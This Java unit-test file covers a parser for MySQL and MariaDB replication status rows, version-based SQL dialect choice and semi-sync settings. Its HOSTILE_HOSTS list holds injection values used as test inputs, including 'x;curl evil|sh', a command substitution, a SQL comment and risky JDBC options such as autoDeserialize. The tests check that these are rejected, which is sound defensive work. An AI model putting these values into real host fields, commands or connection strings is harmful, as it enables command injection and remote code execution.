package io.quorch.mysql;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

import io.quorch.domain.BinlogCoordinates;
import io.quorch.domain.Flavor;
import io.quorch.domain.InstanceKey;
import io.quorch.domain.ReplicationStatus;

/** Rows as MariaDB 10.11 and MySQL 8.0/8.4 print them. */
class ReplicationStatusParserTest {

    static Map<String, String> mariadbRow() {
        Map<String, String> m = new LinkedHashMap<>();
        m.put("Slave_IO_State", "Waiting for master to send event");
        m.put("Master_Host", "127.0.0.1");
        m.put("Master_User", "repl");
        m.put("Master_Port", "23306");
        m.put("Connect_Retry", "1");
        m.put("Master_Log_File", "mysql-bin.000002");
        m.put("Read_Master_Log_Pos", "1234");
        m.put("Relay_Log_File", "relay-bin.000003");
        m.put("Relay_Log_Pos", "555");
        m.put("Relay_Master_Log_File", "mysql-bin.000002");
        m.put("Slave_IO_Running", "Yes");
        m.put("Slave_SQL_Running", "Yes");
        m.put("Replicate_Do_DB", "");
        m.put("Replicate_Ignore_DB", "");
        m.put("Replicate_Do_Table", "");
        m.put("Replicate_Ignore_Table", "");
        m.put("Replicate_Wild_Do_Table", "");
        m.put("Replicate_Wild_Ignore_Table", "");
        m.put("Last_Errno", "0");
        m.put("Last_Error", "");
        m.put("Exec_Master_Log_Pos", "1200");
        m.put("Seconds_Behind_Master", "3");
        m.put("Last_IO_Errno", "0");
        m.put("Last_IO_Error", "");
        m.put("Last_SQL_Errno", "0");
        m.put("Last_SQL_Error", "");
        m.put("Master_Server_Id", "23306");
        m.put("Using_Gtid", "Slave_Pos");
        m.put("Gtid_IO_Pos", "0-23306-17");
        m.put("SQL_Delay", "0");
        m.put("Slave_SQL_Running_State", "Slave has read all relay log; waiting for more updates");
        return m;
    }

    @Test
    void mariadbReplica() {
        ReplicationStatus r = ReplicationStatusParser.parse(new StatusRow(mariadbRow()));
        assertEquals(new InstanceKey("127.0.0.1", 23306), r.masterKey());
        assertTrue(r.replicating());
        assertEquals(new BinlogCoordinates("mysql-bin.000002", 1234), r.readBinlogCoordinates());
        assertEquals(new BinlogCoordinates("mysql-bin.000002", 1200), r.execBinlogCoordinates());
        assertEquals(new BinlogCoordinates("relay-bin.000003", 555), r.relaylogCoordinates());
        assertEquals(3L, r.secondsBehindMaster());
        assertTrue(r.usingMariaDbGtid());
        assertFalse(r.autoPosition());
        assertEquals("0-23306-17", r.retrievedGtidSet());
        assertEquals(23306, r.masterServerId());
        assertFalse(r.hasReplicationFilters());
    }

    @Test
    void replicaThatLostItsPrimary() {
        Map<String, String> m = mariadbRow();
        m.put("Slave_IO_Running", "Connecting");
        m.put("Seconds_Behind_Master", null);
        m.put("Last_IO_Errno", "2003");
        m.put("Last_IO_Error", "error reconnecting to master 'repl@127.0.0.1:23306' - retry-time: 1");
        ReplicationStatus r = ReplicationStatusParser.parse(new StatusRow(m));
        assertFalse(r.ioThreadRunning());
        assertTrue(r.ioThreadConnecting());
        assertNull(r.secondsBehindMaster());
        assertEquals(2003, r.lastIoErrno());
        assertTrue(r.lastIoError().startsWith("error reconnecting"));
    }

    @Test
    void mysql8ReplicaTerms() {
        Map<String, String> m = new HashMap<>();
        m.put("Replica_IO_State", "Waiting for source to send event");
        m.put("Source_Host", "db-1.example");
        m.put("Source_Port", "3306");
        m.put("Source_Log_File", "binlog.000010");
        m.put("Read_Source_Log_Pos", "900");
        m.put("Relay_Source_Log_File", "binlog.000010");
        m.put("Exec_Source_Log_Pos", "800");
        m.put("Replica_IO_Running", "Yes");
        m.put("Replica_SQL_Running", "No");
        m.put("Last_SQL_Errno", "1062");
        m.put("Last_SQL_Error", "Duplicate entry '42' for key 'PRIMARY'");
        m.put("Seconds_Behind_Source", null);
        m.put("Source_UUID", "3e11fa47-71ca-11e1-9e33-c80aa9429562");
        m.put("Source_Server_Id", "1");
        m.put("Auto_Position", "1");
        m.put("Retrieved_Gtid_Set", "3e11fa47-71ca-11e1-9e33-c80aa9429562:1-5");
        m.put("Executed_Gtid_Set", "3e11fa47-71ca-11e1-9e33-c80aa9429562:1-4,\n8a94f357-aab4-11df-86ab-c80aa9429562:1");
        m.put("Replicate_Ignore_DB", "mysql");
        ReplicationStatus r = ReplicationStatusParser.parse(new StatusRow(m));
        assertEquals(new InstanceKey("DB-1.example", 3306), r.masterKey());
        assertTrue(r.ioThreadRunning());
        assertFalse(r.sqlThreadRunning());
        assertEquals(1062, r.lastSqlErrno());
        assertTrue(r.autoPosition());
        assertFalse(r.usingMariaDbGtid());
        assertEquals("3e11fa47-71ca-11e1-9e33-c80aa9429562", r.masterUuid());
        assertEquals(new BinlogCoordinates("binlog.000010", 800), r.execBinlogCoordinates());
        assertEquals("3e11fa47-71ca-11e1-9e33-c80aa9429562:1-4,8a94f357-aab4-11df-86ab-c80aa9429562:1",
                r.executedGtidSet());
        assertTrue(r.hasReplicationFilters());
    }

    @Test
    void noPrimaryMeansNotAReplica() {
        Map<String, String> m = mariadbRow();
        m.put("Master_Host", "");
        assertNull(ReplicationStatusParser.parse(new StatusRow(m)));
    }

    @Test
    void replicasFromShowSlaveHostsAndShowReplicas() {
        var mariadb = new StatusRow(Map.of("Server_id", "23307", "Host", "127.0.0.1", "Port", "23307",
                "Master_id", "23306"));
        var unreported = new StatusRow(Map.of("Server_id", "23308", "Host", "", "Port", "3306", "Master_id", "23306"));
        var mysql = new StatusRow(Map.of("Server_Id", "2", "Host", "db-2", "Port", "3306", "Source_Id", "1",
                "Replica_UUID", "x"));
        assertEquals(List.of(new InstanceKey("127.0.0.1", 23307), new InstanceKey("db-2", 3306)),
                ReplicationStatusParser.replicas(new InstanceKey("db-1", 3306), List.of(mariadb, unreported, mysql)));
    }

    @Test
    void dialectFollowsFlavorAndVersion() {
        assertEquals("SHOW SLAVE STATUS", ServerDialect.of(Flavor.MARIADB, "10.11.19-MariaDB").replicationStatusSql());
        assertEquals("SHOW SLAVE HOSTS", ServerDialect.of(Flavor.MARIADB, "11.4.2-MariaDB").replicasSql());
        assertEquals("SHOW SLAVE STATUS", ServerDialect.of(Flavor.MYSQL, "5.7.44-log").replicationStatusSql());
        assertEquals("SHOW SLAVE STATUS", ServerDialect.of(Flavor.MYSQL, "8.0.21").replicationStatusSql());
        assertEquals("SHOW REPLICA STATUS", ServerDialect.of(Flavor.MYSQL, "8.0.22").replicationStatusSql());
        assertEquals("SHOW REPLICAS", ServerDialect.of(Flavor.PERCONA, "8.0.36-28").replicasSql());
        assertEquals("SHOW MASTER STATUS", ServerDialect.of(Flavor.MYSQL, "8.0.36").binlogStatusSql());
        assertEquals("SHOW BINARY LOG STATUS", ServerDialect.of(Flavor.MYSQL, "8.4.3").binlogStatusSql());
        assertTrue(ServerDialect.of(Flavor.MARIADB, "10.11.19").isMariaDb());
        assertFalse(ServerDialect.of(Flavor.MYSQL, "8.4.3").isMariaDb());
    }

    @Test
    void flavorFromVersionStrings() {
        assertEquals(Flavor.MARIADB, Flavor.of("10.11.19-MariaDB-0+deb12u1-log", "Debian 12"));
        assertEquals(Flavor.PERCONA, Flavor.of("8.0.36-28", "Percona Server (GPL), Release 28"));
        assertEquals(Flavor.MYSQL, Flavor.of("8.4.3", "MySQL Community Server - GPL"));
    }

    @Test
    void semiSyncUnderEitherName() {
        var s = ProbeParser.semiSync(
                Map.of("rpl_semi_sync_master_enabled", "ON", "rpl_semi_sync_master_timeout", "10000",
                        "rpl_semi_sync_master_wait_for_slave_count", "1", "rpl_semi_sync_slave_enabled", "OFF"),
                Map.of("rpl_semi_sync_master_status", "ON", "rpl_semi_sync_master_clients", "2"));
        assertTrue(s.available());
        assertTrue(s.masterEnabled());
        assertTrue(s.masterStatus());
        assertEquals(2, s.masterClients());
        assertEquals(10000, s.masterTimeout());
        assertFalse(s.replicaEnabled());
    }

    static final List<String> HOSTILE_HOSTS = List.of("x;curl evil|sh", "db1/?allowLoadLocalInfile=true",
            "db1?autoDeserialize=true", "db1,evil:3306", "user@db1", "x$(touch /tmp/f)", "db 1", "db1'--", "a\nb",
            "[::1]", "host:3306:1");

    @Test
    void aMasterHostThatIsNotAServerIsAnErrorNamingIt() {
        for (String host : HOSTILE_HOSTS) {
            Map<String, String> m = new HashMap<>(mariadbRow());
            m.put("Master_Host", host);
            var e = assertThrows(InvalidReportedHostException.class,
                    () -> ReplicationStatusParser.parse(new StatusRow(m)), host);
            assertTrue(e.getMessage().contains("Master_Host"), e.getMessage());
            assertTrue(e.getMessage().contains("not a valid host name or address"), e.getMessage());
        }
        Map<String, String> m = new HashMap<>(mariadbRow());
        m.put("Master_Port", "70000");
        assertThrows(InvalidReportedHostException.class, () -> ReplicationStatusParser.parse(new StatusRow(m)));
    }

    @Test
    void aDetachedMasterHostIsReadAsDetachedFromTheRealHost() {
        Map<String, String> m = new HashMap<>(mariadbRow());
        m.put("Master_Host", "//" + m.get("Master_Host"));
        var r = ReplicationStatusParser.parse(new StatusRow(m));
        assertTrue(r.masterHostDetached());
        assertEquals(mariadbRow().get("Master_Host"), r.masterKey().hostname());
        assertFalse(ReplicationStatusParser.parse(new StatusRow(mariadbRow())).masterHostDetached());
        m.put("Master_Host", "//x;curl evil|sh");
        assertThrows(InvalidReportedHostException.class, () -> ReplicationStatusParser.parse(new StatusRow(m)));
    }

    @Test
    void replicasThatAreNotServersAreSkippedAndTheOthersKept() {
        InstanceKey reporter = new InstanceKey("db-1", 3306);
        List<StatusRow> rows = new ArrayList<>();
        rows.add(new StatusRow(Map.of("Server_id", "2", "Host", "db-2", "Port", "3306", "Master_id", "1")));
        for (String host : HOSTILE_HOSTS) {
            rows.add(new StatusRow(Map.of("Server_id", "9", "Host", host, "Port", "3306", "Master_id", "1")));
        }
        rows.add(new StatusRow(Map.of("Server_id", "3", "Host", "db-3", "Port", "99999", "Master_id", "1")));
        rows.add(new StatusRow(Map.of("Server_id", "4", "Host", "fe80::1", "Port", "3307", "Master_id", "1")));
        assertEquals(List.of(new InstanceKey("db-2", 3306), new InstanceKey("fe80::1", 3307)),
                ReplicationStatusParser.replicas(reporter, rows));
    }

    @Test
    void dumpThreadHostsThatAreNotServersAreSkipped() {
        InstanceKey reporter = new InstanceKey("db-1", 3306);
        List<String> hosts = new ArrayList<>(HOSTILE_HOSTS);
        hosts.add(null);
        hosts.add("");
        hosts.add("10.0.0.2");
        assertEquals(List.of(new InstanceKey("10.0.0.2", 3306)), ReplicationStatusParser.dumpThreadHosts(reporter, hosts));
    }
}
